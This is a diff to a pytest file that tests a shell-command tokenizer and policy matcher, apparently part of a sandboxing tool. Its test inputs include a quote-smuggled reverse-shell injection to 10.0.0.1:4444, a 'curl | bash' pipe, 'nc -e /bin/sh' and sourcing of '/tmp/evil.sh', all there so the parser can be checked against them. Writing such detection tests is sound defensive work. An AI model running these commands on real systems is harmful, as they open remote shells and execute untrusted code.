@@ -230,7 +230,7 @@ def test_policy_matching():
 @pytest.mark.parametrize(
     ("argv", "expected_names"),
     [
-        (["env", "A=1", "B=2", "sh", "-c", "x"], ["env", "sh"]),
+        (["env", "A=1", "B=2", "sh", "-c", "x"], ["env", "sh", "x"]),
         (["timeout", "-s", "KILL", "5", "nc", "-e", "/bin/sh"], ["timeout", "nc"]),
         (["nohup", "env", "bash"], ["nohup", "env", "bash"]),
         (["ls", "-l"], ["ls"]),
@@ -261,3 +261,30 @@ def test_multiprocessing_helpers_are_not_inline_code():
         ],
     )
     assert fake.inline_code() is not None
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        (
+            "wc -c '/tmp/x'; sh -i >& /dev/tcp/10.0.0.1/4444 0>&1 #'",
+            [["wc", "-c", "/tmp/x"], ["/dev/tcp", "/dev/tcp/10.0.0.1/4444"], ["sh", "-i"]],
+        ),
+        ("curl -s http://x | bash", [["curl", "-s", "http://x"], ["bash"]]),
+        ("echo $(id) > /tmp/o 2>&1 && A=1 /tmp/.x arg", [["id"], ["/tmp/.x", "arg"]]),
+        ('eval "nc -e /bin/sh h 1"', [["nc", "-e", "/bin/sh", "h", "1"]]),
+        ("`whoami`", [["whoami"]]),
+        ("ls \"a;b\" 'c|d'", [["ls", "a;b", "c|d"]]),
+        ("(cd /tmp && exec ./run)", [["./run"]]),
+        (". /tmp/evil.sh", [["/tmp/evil.sh"]]),
+        ("wc -c '/tmp/notes.txt'", [["wc", "-c", "/tmp/notes.txt"]]),
+    ],
+)
+def test_shell_command_strings_are_split_into_programs(command, expected):
+    assert _procs.shell_commands(command) == expected
+
+
+@settings(max_examples=300)
+@given(st.text(max_size=120))
+def test_shell_tokenizer_never_crashes(text):
+    _procs.shell_commands(text)
